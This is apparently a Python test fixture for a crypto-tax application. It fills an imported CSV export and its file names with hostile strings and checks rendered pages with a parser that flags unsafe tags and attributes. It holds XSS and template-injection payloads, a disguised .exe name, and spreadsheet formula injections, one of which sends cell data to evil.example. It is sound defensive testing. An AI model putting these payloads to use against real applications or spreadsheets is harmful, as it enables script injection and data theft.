"""A project whose every text comes from somebody who means harm, and what a page of it may hold."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

from lotwise.app.import_json import imported
from lotwise.app.mapper import said_in_words
from lotwise.app.projects import existing_project, new_project

SCRIPT: Final = "<script>harm(1)</script>"
IMAGE: Final = '"><img src=x onerror=harm(2)>'
QUOTE: Final = "' onmouseover='harm(3)"
SUMS: Final = "{{7*7}}${7*7}"
LINK: Final = "javascript:harm(4)"
TURNED: Final = "a\N{RIGHT-TO-LEFT OVERRIDE}gnp\N{ZERO WIDTH SPACE}.exe"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TEXTS: Final = (SCRIPT, IMAGE, QUOTE, SUMS, LINK, TURNED, FORMULA, "@SUM(1)", "+1+1", "-2+3|cmd", "x" * 300)
HOUSEHOLD: Final = """
time_zone = "America/New_York"
filing_status = "single"
[year.2026]
wages = 150000
[future]
"""
_HEAD: Final = (
    "Type,Buy Amount,Buy Currency,Sell Amount,Sell Currency,Fee,Fee Currency,Exchange,Trade-Group,Comment,"
    "Date,Tx-ID,Buy Value in Account Currency,Sell Value in Account Currency,Liquidity pool\n"
)


def _cell(text: str) -> str:
    doubled = text.replace('"', '""')
    return f'"{doubled}"'


def rows() -> Iterator[str]:
    """Give the rows of an export: each text as wallet, asset and comment; bought, sold, and left over."""
    for number, text in enumerate(TEXTS):
        asset = "".join(text.split()) or "X"
        day = f"{number + 1:02}.03.2025 10:00:00"
        later = f"{number + 1:02}.01.2026 10:00:00"
        name, code = _cell(text), _cell(asset)
        yield f"Trade,10,{code},1000,USD,1,USD,{name},{name},{name},{day},{_cell(text + '1')},,,\n"
        yield f"Trade,100,USD,2,{code},1,USD,{name},{name},{name},{later},{_cell(text + '2')},,,\n"
        yield f"Deposit,1,{code},,,,,{name},{name},{name},{later},{_cell(text + '3')},,,\n"
    yield f"{_cell(SCRIPT)},1,BTC,,,,,Kraken,,,05.02.2025 10:00:00,,,,\n"


def prices() -> str:
    """Return prices of those assets and of others."""
    made = "date,asset,price_usd\n"
    return made + "".join(f"2026-02-07,{_cell(''.join(text.split()).upper())},50\n" for text in TEXTS)


def hostile_project(folder: Path) -> Path:
    """Return a project in a folder that holds those texts, in files whose names are no better."""
    place = folder / "hostile.db"
    new_project(place)
    sent = folder / "sent"
    sent.mkdir()
    file = sent / '"><img src=x onerror=harm(6)>{{7*7}}.csv'
    file.write_text(_HEAD + "".join(rows()), encoding="utf-8")
    (sent / "prices.csv").write_text(prices(), encoding="utf-8")
    (sent / "household.toml").write_text(HOUSEHOLD, encoding="utf-8")
    with existing_project(place) as project:
        said = said_in_words({"zone": "UTC", "dates": "day-first"})
        imported(project, [file, sent / "prices.csv", sent / "household.toml"], said)
    return place


@dataclass
class Page(HTMLParser):
    """What a browser would find in a page.

    Attributes:
        faults: What may not stand in one.
        links: Where it leads.
        forms: What it sends by POST: address and fields.
        texts: What is read, piece by piece.
    """

    faults: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    forms: list[str] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at a tag."""
        said = {name: value or "" for name, value in attrs}
        where = f"<{tag} {said}>"[:200]
        if tag in {"iframe", "object", "embed", "base", "style", "applet", "frame"}:
            self.faults.append(where)
        if tag == "script" and not said.get("src", "").startswith("/static/"):
            self.faults.append(where)
        if tag == "meta" and "http-equiv" in said:
            self.faults.append(where)
        for name, value in said.items():
            bad_word = value.strip().lower().startswith(("javascript:", "data:text", "vbscript:", "//"))
            is_address = name in {"href", "src", "action", "formaction", "xlink:href"}
            if name.startswith("on") or name == "style" or (is_address and bad_word):
                self.faults.append(where)
            if is_address and ":" in value.partition("/")[0] and not value.startswith("https://"):
                self.faults.append(where)
        if tag == "a":
            self.links.append(said.get("href", ""))
        if tag == "form" and said.get("method", "").lower() == "post":
            self.forms.append(said.get("action", ""))

    def handle_data(self, data: str) -> None:
        """Keep what is read."""
        self.texts.append(data)

    @property
    def text(self) -> str:
        """What is read."""
        return "".join(self.texts)


@cache
def page_of(html: str) -> Page:
    """Return what a browser would find in a page; several tests look at the same ones."""
    found = Page()
    found.feed(html)
    found.close()
    return found
